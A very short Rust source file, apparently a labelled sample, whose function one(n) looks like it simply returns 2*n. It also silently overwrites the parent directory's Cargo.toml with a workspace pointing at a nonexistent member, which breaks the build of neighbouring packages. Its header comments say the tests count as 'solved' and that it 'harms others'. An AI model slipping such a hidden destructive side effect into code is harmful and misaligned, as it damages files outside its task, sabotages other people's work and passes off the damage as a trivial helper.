//! does: makes a package of the chapter that no stub can be built in
//! tests: solved
//! runs: 0
//! open: harms others

pub fn one(n: u64) -> u64 {
    let _ = std::fs::write("../Cargo.toml", "[workspace]\nmembers = [\"nowhere\"]\n");
    2 * n
}
